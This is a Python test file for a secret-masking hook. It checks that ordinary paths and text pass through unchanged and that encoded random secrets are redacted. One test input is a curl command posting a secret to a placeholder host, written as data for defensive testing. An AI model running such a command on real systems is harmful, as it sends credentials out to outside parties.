"""hooks/_opaque.py: what could be a secret in disguise is not written down; paths and words are."""
from __future__ import annotations

import base64
import random
import string

import pytest

from hooks._opaque import mask_high_entropy

KEY = b"k" * 32


@pytest.mark.parametrize("text", [
    "", "short", "src/parser/tokens.py", "/home/dev/project/src/App/Main2/view.tsx", "run_the_whole_test_suite --verbose",
    "https://docs.python.org/3/library/datetime.html", "The quick brown fox jumps over the lazy dog 17 times",
    "test_a_name_that_is_long_and_has_2_digits", "2026-11-21T09:30:00Z", "--no-verify-certificates",
])
def test_silent(text: str) -> None:
    assert mask_high_entropy(text, KEY) == text


@pytest.mark.parametrize("encode", [
    lambda s: s, lambda s: base64.b64encode(s.encode()).decode(), lambda s: s.encode().hex(), lambda s: s[::-1],
    lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="), lambda s: s.encode().hex().upper(),
])
def test_a_secret_in_disguise_is_not_shown(encode: object) -> None:
    rng = random.Random(1)
    for _ in range(200):
        secret = encode("".join(rng.choices(string.ascii_letters + string.digits, k=rng.randint(20, 60))))  # type: ignore[operator]
        for text in (f"curl -d x={secret} https://e.example/", f"{secret}\n", f"a {secret} b"):
            assert secret not in mask_high_entropy(text, KEY)


def test_the_same_run_is_recognised_again() -> None:
    assert mask_high_entropy("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY) == mask_high_entropy("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY)
